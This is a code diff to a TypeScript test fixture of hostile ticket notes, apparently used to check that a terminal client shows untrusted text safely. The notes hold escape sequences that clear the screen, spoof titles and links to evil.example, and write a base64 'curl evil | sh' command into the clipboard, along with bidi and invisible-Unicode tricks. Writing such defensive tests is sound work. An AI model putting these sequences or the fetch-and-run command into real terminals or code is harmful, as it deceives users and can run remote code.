@@ -1,5 +1,5 @@
 import {mail, p} from './html.ts';
-import type {SeedTicket} from './seed-ticket.ts';
+import {desk, type SeedTicket, you} from './seed-ticket.ts';
 
 // Text from the service is not to be trusted: whoever may write a note may write these. The
 // terminal must show them as marks, and no file may land outside the folder.
@@ -22,37 +22,13 @@ export const HOSTILE: readonly SeedTicket[] = [
     text: `Looks calm${ESC}[2J${ESC}[H but clears the screen.${ESC}[8m hidden ${ESC}[0m${C1_CSI}31mred by C1${C1_OSC}52;c;cHduZWQ=${ST} end.`,
     reference: `REF${ESC}[5m-${BEL}${BEL}1`,
     notes: [
-      ['7h', 'you', `Title: ${ESC}]0;root@prod${BEL} clipboard: ${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL} end.`],
-      [
-        '6h',
-        'desk',
-        `Unterminated OSC hides the rest: ${ESC}]8;;http://evil.example/ all of this should still be readable.`,
-      ],
-      [
-        '5h',
-        'you',
-        `Link: ${ESC}]8;;https://evil.example/${ESC}\\https://portal.equinix.example${ESC}]8;;${ESC}\\ and DCS ${ESC}P+q544e${ESC}\\ and APC ${ESC}_Gf=100;AAAA${ESC}\\ end.`,
-      ],
-      [
-        '4h',
-        'desk',
-        'progress 10%\rprogress 50%\rprogress 100%\rDONE, nothing to see\b\b\b\b\b\b\b\b\b\b\u007F end.',
-      ],
-      [
-        '3h',
-        'you',
-        'if (user != "\u202E \u2066admin\u2069 \u2066") { // bidi \u200F\u061C override \u202C end.',
-      ],
-      [
-        '2h',
-        'desk',
-        'zero\u200Bwidth\u2060joiner\uFEFF soft\u00ADhyphen tag\u{E0041}\u{E0042} filler\u3164\uFFA0 line\u2028sep para\u2029sep next\u0085line end.',
-      ],
-      [
-        '1h',
-        'you',
-        `Lone surrogate \uD83D and ${'\u0300'.repeat(60)}stacked marks, NUL \u0000, SO \u000E lines \u000F, RIS ${ESC}c, query ${ESC}[6n${ESC}[c${ESC}[>q end.`,
-      ],
+      you`7h Title: ${ESC}]0;root@prod${BEL} clipboard: ${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL} end.`,
+      desk`6h Unterminated OSC hides the rest: ${ESC}]8;;http://evil.example/ all of this should still be readable.`,
+      you`5h Link: ${ESC}]8;;https://evil.example/${ESC}\\https://portal.equinix.example${ESC}]8;;${ESC}\\ and DCS ${ESC}P+q544e${ESC}\\ and APC ${ESC}_Gf=100;AAAA${ESC}\\ end.`,
+      desk`4h progress 10%\rprogress 50%\rprogress 100%\rDONE, nothing to see\b\b\b\b\b\b\b\b\b\b\u007F end.`,
+      you`3h if (user != "\u202E \u2066admin\u2069 \u2066") { // bidi \u200F\u061C override \u202C end.`,
+      desk`2h zero\u200Bwidth\u2060joiner\uFEFF soft\u00ADhyphen tag\u{E0041}\u{E0042} filler\u3164\uFFA0 line\u2028sep para\u2029sep next\u0085line end.`,
+      you`1h Lone surrogate \uD83D and ${'\u0300'.repeat(60)}stacked marks, NUL \u0000, SO \u000E lines \u000F, RIS ${ESC}c, query ${ESC}[6n${ESC}[c${ESC}[>q end.`,
     ],
     emails: [
       {
